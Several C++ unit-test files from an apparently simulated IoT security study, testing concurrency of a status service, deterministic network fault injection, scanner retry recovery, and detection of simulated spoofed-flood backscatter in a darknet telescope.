        if (snap.sim_day != 3 * snap.sim_now ||
            snap.phase != snap.sim_now % 7 || snap.epoch < last_epoch) {
          torn.fetch_add(1, std::memory_order_relaxed);
        }
        last_epoch = snap.epoch;
      }
    });
  }

  for (std::uint64_t t = 1; t <= 200'000; ++t) {
    hub.set_board(static_cast<std::uint8_t>(t % 7), t, 3 * t);
  }
  done.store(true, std::memory_order_release);
  for (auto& thread : readers) thread.join();

  EXPECT_EQ(torn.load(), 0u);
  const auto snap = hub.snapshot(false);
  EXPECT_EQ(snap.epoch, 200'000u);
  EXPECT_EQ(snap.sim_now, 200'000u);
  EXPECT_EQ(snap.sim_day, 600'000u);
}

TEST(SweepSlotHammer, WorkerUpdatesReadMonotonically) {
  IntrospectionHub hub;
  const std::size_t slot = hub.add_sweep("Telnet", 1 << 20);
  ASSERT_EQ(slot, 0u);
  std::atomic<bool> done{false};
  std::atomic<std::uint64_t> regressions{0};

  std::thread reader([&] {
    std::uint64_t last = 0;
    while (!done.load(std::memory_order_acquire)) {
      const auto snap = hub.snapshot(false);
      if (snap.sweeps.empty()) continue;
      const std::uint64_t now = snap.sweeps[0].done;
      if (now < last) regressions.fetch_add(1, std::memory_order_relaxed);
      last = now;
    }
  });

  for (std::uint64_t done_count = 0; done_count <= (1u << 20);
       done_count += 17) {
    hub.update_sweep(slot, done_count);
  }
  hub.update_sweep(slot, 1u << 20);
  done.store(true, std::memory_order_release);
  reader.join();

  EXPECT_EQ(regressions.load(), 0u);
  EXPECT_EQ(hub.snapshot(false).sweeps[0].done, 1u << 20);
}

// --------------------------------------------------- study + wire clients

bool write_all(int fd, const std::uint8_t* data, std::size_t size) {
  while (size > 0) {
    const ssize_t n = ::write(fd, data, size);
    if (n <= 0) return false;
    data += n;
    size -= static_cast<std::size_t>(n);
  }
  return true;
}

bool read_all(int fd, std::uint8_t* data, std::size_t size) {
  while (size > 0) {
    const ssize_t n = ::read(fd, data, size);
    if (n <= 0) return false;
    data += n;
    size -= static_cast<std::size_t>(n);
  }
  return true;
}

int connect_unix(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof addr.sun_path) return -1;
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

TEST(LiveStudyHammer, ScanWithServerAndConcurrentPollersIsRaceFree) {
  core::StudyConfig config;
  config.seed = 7;
  config.population_scale = 1.0 / 16'384;
  config.scan_threads = 8;
  core::Study study(config);

  core::StatusService::Options options;
  options.unix_path =
      "/tmp/ofh_introspect_tsan_" + std::to_string(::getpid()) + ".sock";
  options.tick_ms = 5;
  core::StatusService service(study.introspection(), options);
  ASSERT_TRUE(service.start()) << service.error();

  std::atomic<bool> stop{false};
  std::atomic<std::uint64_t> polls{0};
  std::vector<std::thread> clients;
  for (int c = 0; c < 2; ++c) {
    clients.emplace_back([&] {
      while (!stop.load(std::memory_order_acquire)) {
        const int fd = connect_unix(options.unix_path);
        if (fd < 0) continue;
        const std::uint8_t status_req[5] = {0, 0, 0, 1, 1};
        std::uint8_t header[4];
        while (!stop.load(std::memory_order_acquire) &&
               write_all(fd, status_req, sizeof status_req) &&
               read_all(fd, header, sizeof header)) {
          const std::uint32_t length =
              (std::uint32_t{header[0]} << 24) |
              (std::uint32_t{header[1]} << 16) |
              (std::uint32_t{header[2]} << 8) | header[3];
          std::vector<std::uint8_t> body(length);
          if (length > 0 && !read_all(fd, body.data(), length)) break;
          polls.fetch_add(1, std::memory_order_relaxed);
        }
        ::close(fd);
      }
    });
  }

  study.setup_internet();
  study.run_scan();
  stop.store(true, std::memory_order_release);
  for (auto& thread : clients) thread.join();
  service.stop();

  EXPECT_GT(polls.load(), 0u);
  EXPECT_GT(study.scan_db().size(), 0u);
  EXPECT_EQ(study.introspection().kind_count(ProgressKind::kSweepDone), 6u);
}

}  // namespace
}  // namespace ofh
