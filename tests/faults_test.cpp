// Deterministic fault injection (net/faults.h) and graceful degradation:
// injector decision determinism, Gilbert-Elliott burst statistics, window
// semantics (partition symmetry, link flaps, refusal, latency spikes,
// crashes), fabric packet conservation under duplication, scanner
// retry/backoff recovery with outcome accounting, and the headline chaos
// property — a full Study under a nonzero schedule is byte-identical for
// every scan_threads value, degradation report included.
#include <gtest/gtest.h>

#include <memory>
#include <set>
#include <string>
#include <vector>

#include "core/study.h"
#include "devices/device.h"
#include "devices/population.h"
#include "honeynet/deployments.h"
#include "honeynet/event_log.h"
#include "net/fabric.h"
#include "net/faults.h"
#include "scanner/scanner.h"
#include "test_helpers.h"
#include "util/bytes.h"

namespace ofh {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

// ---------------------------------------------------------------- injector

TEST(FaultInjector, FaultKindNamesAreDistinct) {
  std::set<std::string> names;
  for (std::size_t i = 0; i < net::kFaultKindCount; ++i) {
    names.insert(
        std::string(net::fault_kind_name(static_cast<net::FaultKind>(i))));
  }
  EXPECT_EQ(names.size(), net::kFaultKindCount);
}

net::Packet make_packet(Ipv4Addr src, Ipv4Addr dst) {
  net::Packet packet;
  packet.src = src;
  packet.dst = dst;
  packet.transport = net::Transport::kUdp;
  return packet;
}

TEST(FaultInjector, DecisionSequenceIsDeterministic) {
  net::FaultSchedule schedule;
  schedule.duplicate_rate = 0.05;
  schedule.reorder_rate = 0.05;
  schedule.burst.enabled = true;
  schedule.burst.p_enter = 0.05;
  schedule.burst.p_exit = 0.2;
  schedule.burst.loss_bad = 0.8;

  net::FaultInjector a(schedule, 42);
  net::FaultInjector b(schedule, 42);
  const auto packet = make_packet(Ipv4Addr(10, 0, 0, 1), Ipv4Addr(10, 0, 0, 2));
  std::uint64_t perturbed = 0;
  for (int i = 0; i < 20'000; ++i) {
    const sim::Time now = static_cast<sim::Time>(i) * sim::msec(7);
    const auto da = a.decide(packet, now);
    const auto db = b.decide(packet, now);
    ASSERT_EQ(da.drop, db.drop) << i;
    ASSERT_EQ(da.drop_kind, db.drop_kind) << i;
    ASSERT_EQ(da.refuse, db.refuse) << i;
    ASSERT_EQ(da.duplicate, db.duplicate) << i;
    ASSERT_EQ(da.spike_delay, db.spike_delay) << i;
    ASSERT_EQ(da.reorder_delay, db.reorder_delay) << i;
    if (da.perturbed()) ++perturbed;
  }
  EXPECT_GT(perturbed, 0u);  // the schedule actually exercised the draws
}

TEST(FaultInjector, GilbertElliottLossIsBurstyAndNearStationaryRate) {
  // With loss_bad = 1 and loss_good = 0, drops expose the chain state
  // directly: the stationary bad probability is p_enter/(p_enter+p_exit).
  net::FaultSchedule schedule;
  schedule.burst.enabled = true;
  schedule.burst.p_enter = 0.05;
  schedule.burst.p_exit = 0.2;
  schedule.burst.loss_good = 0.0;
  schedule.burst.loss_bad = 1.0;
  schedule.burst.slot = sim::msec(100);

  net::FaultInjector injector(schedule, 7);
  const auto packet = make_packet(Ipv4Addr(10, 0, 0, 1), Ipv4Addr(10, 0, 0, 2));
  const int packets = 50'000;  // 10 per slot over 5000 slots
  int drops = 0, pairs = 0, both = 0;
  bool previous = false;
  for (int i = 0; i < packets; ++i) {
    const sim::Time now = static_cast<sim::Time>(i) * sim::msec(10);
    const bool dropped = injector.decide(packet, now).drop;
    if (dropped) ++drops;
    if (i > 0) {
      ++pairs;
      if (previous && dropped) ++both;
    }
    previous = dropped;
  }
  const double rate = static_cast<double>(drops) / packets;
  EXPECT_GT(rate, 0.08);  // stationary expectation 0.2, loose tolerance
  EXPECT_LT(rate, 0.35);
  // Burstiness: a drop is far more likely right after a drop than the
  // marginal rate (same slot or a persisting bad state), which uniform
  // loss cannot produce.
  const double conditional =
      static_cast<double>(both) / std::max(1, drops);
  EXPECT_GT(conditional, 2.0 * rate);
  EXPECT_GT(pairs, 0);
}

TEST(FaultInjector, ChaosScheduleIsAPureFunctionOfSeed) {
  net::ChaosOptions options;
  options.ranges = {*util::Cidr::parse("10.0.0.0/16"),
                    *util::Cidr::parse("172.16.0.0/16")};
  const auto a = net::FaultSchedule::chaos(99, options);
  const auto b = net::FaultSchedule::chaos(99, options);
  ASSERT_EQ(a.windows.size(), b.windows.size());
  ASSERT_GT(a.windows.size(), 0u);
  for (std::size_t i = 0; i < a.windows.size(); ++i) {
    EXPECT_EQ(a.windows[i].kind, b.windows[i].kind) << i;
    EXPECT_EQ(a.windows[i].start, b.windows[i].start) << i;
    EXPECT_EQ(a.windows[i].end, b.windows[i].end) << i;
    EXPECT_EQ(a.windows[i].scope.base().value(),
              b.windows[i].scope.base().value())
        << i;
    EXPECT_EQ(a.windows[i].magnitude, b.windows[i].magnitude) << i;
  }
  // Every requested kind is represented.
  std::set<net::FaultKind> kinds;
  for (const auto& window : a.windows) kinds.insert(window.kind);
  EXPECT_TRUE(kinds.count(net::FaultKind::kLinkFlap));
  EXPECT_TRUE(kinds.count(net::FaultKind::kPartition));
  EXPECT_TRUE(kinds.count(net::FaultKind::kLatencySpike));
  EXPECT_TRUE(kinds.count(net::FaultKind::kRefusal));
  EXPECT_TRUE(kinds.count(net::FaultKind::kCrash));
  // A different seed lands the windows elsewhere.
  const auto c = net::FaultSchedule::chaos(100, options);
  bool any_difference = c.windows.size() != a.windows.size();
  for (std::size_t i = 0; !any_difference && i < a.windows.size(); ++i) {
    any_difference = a.windows[i].start != c.windows[i].start ||
                     a.windows[i].scope.base() != c.windows[i].scope.base();
  }
  EXPECT_TRUE(any_difference);
}

// ---------------------------------------------------------- fault windows

class FaultWindowTest : public SimTest {};

TEST_F(FaultWindowTest, PartitionDropsBothDirectionsThenHeals) {
  PlainHost a(Ipv4Addr(10, 0, 0, 1));
  PlainHost b(Ipv4Addr(10, 1, 0, 1));
  a.attach(fabric_);
  b.attach(fabric_);
  int received_by_a = 0, received_by_b = 0;
  a.udp().bind(9000, [&](const net::Datagram&) { ++received_by_a; });
  b.udp().bind(9000, [&](const net::Datagram&) { ++received_by_b; });

  net::FaultSchedule schedule;
  schedule.windows.push_back({net::FaultKind::kPartition, 0, sim::seconds(5),
                              *util::Cidr::parse("10.0.0.0/24"),
                              *util::Cidr::parse("10.1.0.0/24"), 0});
  fabric_.set_fault_schedule(schedule);

  sim_.at(sim::seconds(1), [&] {
    a.udp().send(b.address(), 9000, util::to_bytes("ping"));
    b.udp().send(a.address(), 9000, util::to_bytes("pong"));
  });
  sim_.at(sim::seconds(10), [&] {
    a.udp().send(b.address(), 9000, util::to_bytes("ping"));
    b.udp().send(a.address(), 9000, util::to_bytes("pong"));
  });
  run();

  EXPECT_EQ(received_by_a, 1);  // only the post-window exchange arrives
  EXPECT_EQ(received_by_b, 1);
  EXPECT_EQ(fabric_.fault_injector()->injected(net::FaultKind::kPartition),
            2u);
  EXPECT_EQ(fabric_.packets_faulted(), 2u);
  EXPECT_EQ(fabric_.packets_sent(),
            fabric_.packets_delivered() + fabric_.packets_dropped() +
                fabric_.packets_faulted());
}

TEST_F(FaultWindowTest, LinkFlapSilencesTheScopedHostInBothDirections) {
  PlainHost a(Ipv4Addr(10, 0, 0, 1));
  PlainHost b(Ipv4Addr(10, 5, 0, 1));
  a.attach(fabric_);
  b.attach(fabric_);
  int received_by_a = 0, received_by_b = 0;
  a.udp().bind(9000, [&](const net::Datagram&) { ++received_by_a; });
  b.udp().bind(9000, [&](const net::Datagram&) { ++received_by_b; });

  net::FaultSchedule schedule;
  schedule.windows.push_back({net::FaultKind::kLinkFlap, 0, sim::seconds(5),
                              *util::Cidr::parse("10.5.0.1/32"),
                              util::Cidr(), 0});
  fabric_.set_fault_schedule(schedule);

  sim_.at(sim::seconds(1), [&] {
    a.udp().send(b.address(), 9000, util::to_bytes("to-flapped"));
    b.udp().send(a.address(), 9000, util::to_bytes("from-flapped"));
  });
  sim_.at(sim::seconds(8), [&] {
    a.udp().send(b.address(), 9000, util::to_bytes("to-flapped"));
  });
  run();

  EXPECT_EQ(received_by_a, 0);
  EXPECT_EQ(received_by_b, 1);
  EXPECT_EQ(fabric_.fault_injector()->injected(net::FaultKind::kLinkFlap), 2u);
}

TEST_F(FaultWindowTest, LatencySpikeDelaysDeliveryWithinTheWindow) {
  PlainHost a(Ipv4Addr(10, 0, 0, 1));
  PlainHost b(Ipv4Addr(10, 6, 0, 1));
  a.attach(fabric_);
  b.attach(fabric_);
  sim::Time arrival = 0;
  b.udp().bind(9000, [&](const net::Datagram&) { arrival = sim_.now(); });

  net::FaultSchedule schedule;
  schedule.windows.push_back({net::FaultKind::kLatencySpike, 0,
                              sim::seconds(5),
                              *util::Cidr::parse("10.6.0.0/24"), util::Cidr(),
                              sim::msec(500)});
  fabric_.set_fault_schedule(schedule);

  sim_.at(sim::seconds(1),
          [&] { a.udp().send(b.address(), 9000, util::to_bytes("slow")); });
  run();

  // Base latency is ~5ms; the spike adds 500ms on top.
  ASSERT_GT(arrival, 0u);
  EXPECT_GE(arrival, sim::seconds(1) + sim::msec(500));
  EXPECT_LT(arrival, sim::seconds(1) + sim::msec(600));
  EXPECT_EQ(fabric_.fault_injector()->injected(net::FaultKind::kLatencySpike),
            1u);
}

TEST_F(FaultWindowTest, RefusalWindowAnswersSynsWithRstThenRecovers) {
  PlainHost server(Ipv4Addr(10, 7, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  server.tcp().listen(23, [](net::TcpConnection&) {});

  net::FaultSchedule schedule;
  schedule.windows.push_back({net::FaultKind::kRefusal, 0, sim::seconds(5),
                              *util::Cidr::parse("10.7.0.0/24"), util::Cidr(),
                              0});
  fabric_.set_fault_schedule(schedule);

  std::vector<net::ConnectOutcome> outcomes;
  std::vector<sim::Time> when;
  const auto record = [&](net::TcpConnection*, net::ConnectOutcome outcome) {
    outcomes.push_back(outcome);
    when.push_back(sim_.now());
  };
  sim_.at(sim::seconds(1),
          [&] { client.tcp().connect_ex(server.address(), 23, record); });
  sim_.at(sim::seconds(8),
          [&] { client.tcp().connect_ex(server.address(), 23, record); });
  run();

  ASSERT_EQ(outcomes.size(), 2u);
  EXPECT_EQ(outcomes[0], net::ConnectOutcome::kRefused);
  // A refusal is an answer: it arrives at RTT speed, not after the 5s
  // connect timeout a silent drop would burn.
  EXPECT_LT(when[0], sim::seconds(2));
  EXPECT_EQ(outcomes[1], net::ConnectOutcome::kEstablished);
  EXPECT_GE(fabric_.fault_injector()->injected(net::FaultKind::kRefusal), 1u);
}

TEST_F(FaultWindowTest, DuplicationAndReorderingPreserveConservation) {
  PlainHost a(Ipv4Addr(10, 0, 0, 1));
  PlainHost b(Ipv4Addr(10, 0, 0, 2));
  a.attach(fabric_);
  b.attach(fabric_);
  int received = 0;
  b.udp().bind(9000, [&](const net::Datagram&) { ++received; });

  net::FaultSchedule schedule;
  schedule.duplicate_rate = 0.2;
  schedule.reorder_rate = 0.2;
  fabric_.set_fault_schedule(schedule);

  const int sends = 500;
  for (int i = 0; i < sends; ++i) {
    sim_.at(sim::msec(10) * static_cast<std::uint64_t>(i + 1), [&] {
      a.udp().send(b.address(), 9000, util::to_bytes("dup-me"));
    });
  }
  run();

  const auto* injector = fabric_.fault_injector();
  const auto duplicates = injector->injected(net::FaultKind::kDuplicate);
  EXPECT_GT(duplicates, 0u);
  EXPECT_GT(injector->injected(net::FaultKind::kReorder), 0u);
  // Each duplicate re-enters send() as its own packet, so conservation
  // holds and the receiver sees original + copy.
  EXPECT_EQ(static_cast<std::uint64_t>(received),
            static_cast<std::uint64_t>(sends) + duplicates);
  EXPECT_EQ(fabric_.packets_sent(),
            fabric_.packets_delivered() + fabric_.packets_dropped() +
                fabric_.packets_faulted());
}

TEST_F(FaultWindowTest, CrashWipesSessionsButKeepsListenersAndEventLog) {
  honeynet::EventLog log;
  honeynet::HosTaGe honeypot(Ipv4Addr(10, 9, 0, 5), log);
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  honeypot.attach(fabric_);
  client.attach(fabric_);

  net::FaultSchedule schedule;
  schedule.windows.push_back({net::FaultKind::kCrash, sim::seconds(2),
                              sim::seconds(8),
                              *util::Cidr::parse("10.9.0.5/32"), util::Cidr(),
                              0});
  fabric_.set_fault_schedule(schedule);

  // Session established before the crash; more data sent mid-window.
  client.tcp().connect(honeypot.address(), 23, [&](net::TcpConnection* conn) {
    ASSERT_NE(conn, nullptr);
  });
  sim_.run_until(sim::seconds(1));
  ASSERT_EQ(honeypot.tcp().open_connections(), 1u);
  const std::size_t events_before_crash = log.size();
  ASSERT_GE(events_before_crash, 1u);  // the connect was logged

  sim_.run_until(sim::seconds(3));
  // Power loss: connection state is gone without FIN/RST, the listener and
  // the already-written event log survive.
  EXPECT_EQ(honeypot.tcp().open_connections(), 0u);
  EXPECT_TRUE(honeypot.tcp().listening(23));
  EXPECT_EQ(log.size(), events_before_crash);
  EXPECT_GE(fabric_.fault_injector()->injected(net::FaultKind::kCrash), 0u);

  // While down, new connects die silently (SYN swallowed as kCrash).
  bool mid_window_called = false;
  net::TcpConnection* mid_window_conn = nullptr;
  client.tcp().connect(
      honeypot.address(), 23,
      [&](net::TcpConnection* conn) {
        mid_window_called = true;
        mid_window_conn = conn;
      },
      sim::seconds(3));
  sim_.run_until(sim::seconds(7));
  EXPECT_TRUE(mid_window_called);
  EXPECT_EQ(mid_window_conn, nullptr);
  EXPECT_GE(fabric_.fault_injector()->injected(net::FaultKind::kCrash), 1u);

  // After restart the service accepts again and keeps logging.
  bool reconnected = false;
  sim_.at(sim::seconds(9), [&] {
    client.tcp().connect(honeypot.address(), 23,
                         [&](net::TcpConnection* conn) {
                           reconnected = conn != nullptr;
                         });
  });
  run();
  EXPECT_TRUE(reconnected);
  EXPECT_GT(log.size(), events_before_crash);
}

// ------------------------------------------------- scanner retry recovery

struct SweepResult {
  std::uint64_t probes = 0;
  std::uint64_t responsive = 0;
  std::uint64_t refused = 0;
  std::uint64_t unresolved = 0;
  std::uint64_t retries = 0;
  std::uint64_t unique_hosts = 0;
  std::uint64_t sent = 0;
  std::uint64_t delivered = 0;
  std::uint64_t dropped = 0;
  std::uint64_t faulted = 0;
};

// One Telnet sweep over a /24 with 60 responsive devices, under the given
// schedule and retry budget; its own sim/fabric so fault-free and chaos
// runs are independent.
SweepResult run_telnet_sweep(const net::FaultSchedule& schedule,
                             std::uint32_t max_attempts) {
  sim::Simulation sim;
  net::Fabric fabric(sim, 7);
  fabric.set_latency(sim::msec(5), sim::msec(1));
  if (!schedule.empty()) fabric.set_fault_schedule(schedule);

  std::vector<std::unique_ptr<devices::Device>> hosts;
  for (int i = 1; i <= 60; ++i) {
    devices::DeviceSpec spec;
    spec.address = Ipv4Addr(10, 1, 0, static_cast<std::uint8_t>(i));
    spec.primary = proto::Protocol::kTelnet;
    spec.misconfig = devices::Misconfig::kTelnetNoAuthRoot;
    hosts.push_back(std::make_unique<devices::Device>(std::move(spec)));
    hosts.back()->attach(fabric);
  }

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric);
  scanner::ScanConfig config;
  config.protocol = proto::Protocol::kTelnet;
  config.targets = {*util::Cidr::parse("10.1.0.0/24")};
  config.batch_size = 64;
  config.max_attempts = max_attempts;
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim.step()) {
  }
  sim.run_until(sim.now() + sim::minutes(1));  // drain in-flight teardown

  SweepResult result;
  result.probes = db.probes_sent();
  result.responsive = db.responsive();
  result.refused = db.refused();
  result.unresolved = db.unresolved();
  result.retries = db.retries();
  result.unique_hosts = db.unique_hosts(proto::Protocol::kTelnet);
  result.sent = fabric.packets_sent();
  result.delivered = fabric.packets_delivered();
  result.dropped = fabric.packets_dropped();
  result.faulted = fabric.packets_faulted();
  return result;
}

TEST(ScannerRetries, FaultFreeSweepResolvesEveryTargetWithoutRetries) {
  const SweepResult result = run_telnet_sweep(net::FaultSchedule(), 1);
  EXPECT_EQ(result.unique_hosts, 60u);
  EXPECT_EQ(result.responsive, 60u);
  EXPECT_EQ(result.retries, 0u);
  // Every probed target resolves to exactly one outcome.
  EXPECT_EQ(result.probes,
            result.responsive + result.refused + result.unresolved);
  EXPECT_EQ(result.sent, result.delivered + result.dropped + result.faulted);
}

TEST(ScannerRetries, BackoffRecoversNinetyPercentAtFivePercentLoss) {
  const SweepResult clean = run_telnet_sweep(net::FaultSchedule(), 1);
  ASSERT_EQ(clean.unique_hosts, 60u);

  net::FaultSchedule lossy;
  lossy.uniform_loss = 0.05;

  // Without retries, 5% per-packet loss knocks out a visible slice of the
  // responsive set (each connect needs SYN and SYN|ACK to survive).
  const SweepResult no_retries = run_telnet_sweep(lossy, 1);
  EXPECT_EQ(no_retries.probes, no_retries.responsive + no_retries.refused +
                                   no_retries.unresolved);

  // With exponential backoff the sweep recovers at least 90% of the
  // fault-free responsive set (the ISSUE acceptance bar; in practice, with
  // 4 attempts at this loss rate, it recovers all of it).
  const SweepResult retried = run_telnet_sweep(lossy, 4);
  EXPECT_GE(retried.unique_hosts * 10, clean.unique_hosts * 9);
  EXPECT_GE(retried.unique_hosts, no_retries.unique_hosts);
  EXPECT_GT(retried.retries, 0u);
  EXPECT_EQ(retried.probes,
            retried.responsive + retried.refused + retried.unresolved);
  EXPECT_EQ(retried.sent,
            retried.delivered + retried.dropped + retried.faulted);
}

// -------------------------------------------------- study-level chaos runs

net::FaultSchedule study_chaos_schedule() {
  // Chaos windows over the same prefixes the study's population occupies,
  // derived from a throwaway population replica (Population::build is a
  // pure function of its spec).
  devices::PopulationSpec spec;
  spec.seed = 2021;
  spec.scale = 1.0 / 16'384;
  devices::Population population(spec);
  population.build();
  net::ChaosOptions options;
  options.ranges = population.prefixes();
  options.end = sim::days(10);
  net::FaultSchedule schedule = net::FaultSchedule::chaos(2021, options);
  schedule.uniform_loss = 0.02;
  return schedule;
}

core::StudyConfig chaos_config(unsigned threads) {
  core::StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 16'384;
  config.attack_scale = 1.0 / 128;
  config.attack_duration = sim::days(4);
  config.scan_threads = threads;
  config.scan_attempts = 3;
  config.session_connect_attempts = 2;
  config.fault_schedule = study_chaos_schedule();
  return config;
}

TEST(ChaosStudy, FullPipelineIsByteIdenticalForEveryThreadCount) {
  core::Study reference(chaos_config(1));
  reference.run_all();
  // Snapshot everything before the next Study resets the registries.
  const std::string metrics = reference.metrics_csv();
  const std::string trace = reference.trace_json();
  const std::string chains = reference.attack_chains();
  const std::string report = reference.degradation_report();

  ASSERT_NE(report.find("schedule: active"), std::string::npos);
  ASSERT_NE(report.find("conservation=OK"), std::string::npos);
  ASSERT_NE(report.find("accounting=OK"), std::string::npos);
  ASSERT_GT(reference.scan_db().unique_hosts_total(), 0u);
#ifndef OFH_NO_METRICS
  // Faults actually fired and left their marks in the exports.
  ASSERT_NE(metrics.find("fabric.packets_faulted"), std::string::npos);
  ASSERT_NE(trace.find("packet_fault"), std::string::npos);
#endif

  for (const unsigned threads : {2u, 8u, 0u}) {  // 0 = hardware concurrency
    core::Study study(chaos_config(threads));
    study.run_all();
    EXPECT_EQ(study.metrics_csv(), metrics) << "scan_threads=" << threads;
    EXPECT_EQ(study.trace_json(), trace) << "scan_threads=" << threads;
    EXPECT_EQ(study.attack_chains(), chains) << "scan_threads=" << threads;
    EXPECT_EQ(study.degradation_report(), report)
        << "scan_threads=" << threads;
  }
}

TEST(ChaosStudy, DegradationReportComparesAgainstFaultFreeBaseline) {
  core::StudyConfig clean_config;
  clean_config.seed = 2021;
  clean_config.population_scale = 1.0 / 16'384;
  core::Study clean(clean_config);
  clean.setup_internet();
  clean.run_scan();
  const core::DegradationBaseline baseline = clean.baseline();
  ASSERT_GT(baseline.responsive_hosts, 0u);

  // Uniform 5% loss with retries: the acceptance bar is >= 90% of the
  // fault-free responsive set recovered.
  core::StudyConfig lossy_config = clean_config;
  lossy_config.fault_schedule.uniform_loss = 0.05;
  lossy_config.scan_attempts = 4;
  core::Study lossy(lossy_config);
  lossy.setup_internet();
  lossy.run_scan();

  EXPECT_GE(lossy.scan_db().unique_hosts_total() * 10,
            baseline.responsive_hosts * 9);

  const std::string report = lossy.degradation_report(&baseline);
  EXPECT_NE(report.find("schedule: active"), std::string::npos);
  EXPECT_NE(report.find("accounting=OK"), std::string::npos);
  EXPECT_NE(report.find("conservation=OK"), std::string::npos);
  EXPECT_NE(report.find("vs fault-free baseline"), std::string::npos);
  EXPECT_NE(report.find("retained"), std::string::npos);
  // Scan-phase traffic stayed within the fault budget at this loss rate.
  EXPECT_NE(report.find("scan:"), std::string::npos);
  ASSERT_GE(lossy.phase_fault_stats().size(), 2u);  // setup + scan
  const auto& scan_stats = lossy.phase_fault_stats()[1];
  EXPECT_EQ(scan_stats.phase, "scan");
  EXPECT_GT(scan_stats.sent, 0u);
  EXPECT_GT(scan_stats.faulted, 0u);
}

}  // namespace
}  // namespace ofh
