// RSDoS backscatter detection, ExoneraTor lookups and FlowTuple CSV export.
#include <gtest/gtest.h>

#include "attackers/probes.h"
#include "devices/device.h"
#include "intel/threat_intel.h"
#include "telescope/rsdos.h"
#include "test_helpers.h"

namespace ofh::telescope {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

net::Packet tcp_packet(Ipv4Addr src, Ipv4Addr dst, std::uint8_t flags) {
  net::Packet packet;
  packet.src = src;
  packet.dst = dst;
  packet.src_port = 23;
  packet.dst_port = 40'000;
  packet.transport = net::Transport::kTcp;
  packet.tcp_flags = flags;
  return packet;
}

TEST(Backscatter, ClassifiesResponseSegments) {
  EXPECT_TRUE(is_backscatter(tcp_packet(
      Ipv4Addr(1), Ipv4Addr(2), net::TcpFlags::kSyn | net::TcpFlags::kAck)));
  EXPECT_TRUE(is_backscatter(
      tcp_packet(Ipv4Addr(1), Ipv4Addr(2), net::TcpFlags::kRst)));
  EXPECT_FALSE(is_backscatter(
      tcp_packet(Ipv4Addr(1), Ipv4Addr(2), net::TcpFlags::kSyn)));
  net::Packet udp;
  udp.transport = net::Transport::kUdp;
  EXPECT_FALSE(is_backscatter(udp));
}

TEST(RsdosDetectorTest, GroupsBackscatterByVictim) {
  RsdosDetector detector(*util::Cidr::parse("44.0.0.0/8"));
  const Ipv4Addr victim(8, 8, 8, 8);
  for (int i = 0; i < 20; ++i) {
    detector.observe(
        tcp_packet(victim, Ipv4Addr(44, 0, 0, static_cast<std::uint8_t>(i)),
                   net::TcpFlags::kSyn | net::TcpFlags::kAck),
        sim::seconds(static_cast<std::uint64_t>(i)));
  }
  // Unrelated scanning SYN into the darknet must be ignored.
  detector.observe(tcp_packet(Ipv4Addr(9, 9, 9, 9), Ipv4Addr(44, 1, 1, 1),
                              net::TcpFlags::kSyn),
                   0);

  const auto attacks = detector.attacks();
  ASSERT_EQ(attacks.size(), 1u);
  EXPECT_EQ(attacks[0].victim, victim);
  EXPECT_EQ(attacks[0].packets, 20u);
  EXPECT_EQ(attacks[0].distinct_darknet_targets, 20u);
  EXPECT_EQ(detector.backscatter_packets(), 20u);
}

TEST(RsdosDetectorTest, BurstGapSplitsAttacks) {
  RsdosDetector detector(*util::Cidr::parse("44.0.0.0/8"),
                         /*attack_gap=*/sim::minutes(5));
  const Ipv4Addr victim(8, 8, 8, 8);
  const auto hit = [&](sim::Time when) {
    detector.observe(tcp_packet(victim, Ipv4Addr(44, 1, 2, 3),
                                net::TcpFlags::kRst),
                     when);
  };
  hit(sim::minutes(0));
  hit(sim::minutes(1));
  hit(sim::minutes(30));  // > gap: a second attack
  hit(sim::minutes(31));
  const auto attacks = detector.attacks();
  ASSERT_EQ(attacks.size(), 2u);
  EXPECT_EQ(attacks[0].packets, 2u);
  EXPECT_EQ(attacks[1].packets, 2u);
  EXPECT_LT(attacks[0].first_seen, attacks[1].first_seen);
}

TEST(RsdosDetectorTest, EstimatedMagnitudeScalesByDarknetCoverage) {
  RsdosAttack attack;
  attack.packets = 10;
  EXPECT_NEAR(attack.estimated_attack_packets(*util::Cidr::parse("44.0.0.0/8")),
              2'560.0, 0.1);  // /8 sees 1/256
  EXPECT_NEAR(
      attack.estimated_attack_packets(*util::Cidr::parse("44.0.0.0/16")),
      655'360.0, 0.1);
}

class RsdosEndToEnd : public SimTest {};

TEST_F(RsdosEndToEnd, SpoofedFloodProducesReconstructableBackscatter) {
  RsdosDetector detector(*util::Cidr::parse("44.0.0.0/8"));
  detector.attach(fabric_);
  // Also swallow darknet-destined packets so spoofed sources there stay
  // silent (the telescope sink).
  Telescope scope(*util::Cidr::parse("44.0.0.0/8"));
  scope.attach(fabric_);

  // The victim: an open Telnet device.
  devices::DeviceSpec spec;
  spec.address = Ipv4Addr(10, 1, 0, 1);
  spec.primary = proto::Protocol::kTelnet;
  spec.misconfig = devices::Misconfig::kTelnetNoAuth;
  devices::Device victim(std::move(spec));
  victim.attach(fabric_);

  PlainHost attacker(Ipv4Addr(10, 1, 0, 2));
  attacker.attach(fabric_);
  util::Rng rng(77);
  attackers::syn_flood_spoofed(attacker, victim.address(), 23, 4'000, rng);
  run(sim::minutes(5));

  // ~4000/256 ≈ 15.6 SYN-ACKs should land in the darknet.
  EXPECT_GT(detector.backscatter_packets(), 4u);
  EXPECT_LT(detector.backscatter_packets(), 40u);
  const auto attacks = detector.attacks();
  ASSERT_EQ(attacks.size(), 1u);
  EXPECT_EQ(attacks[0].victim, victim.address());
  // Magnitude estimate within 3x of the true flood size.
  const double estimate =
      attacks[0].estimated_attack_packets(*util::Cidr::parse("44.0.0.0/8"));
  EXPECT_GT(estimate, 4'000.0 / 3);
  EXPECT_LT(estimate, 4'000.0 * 3);
}

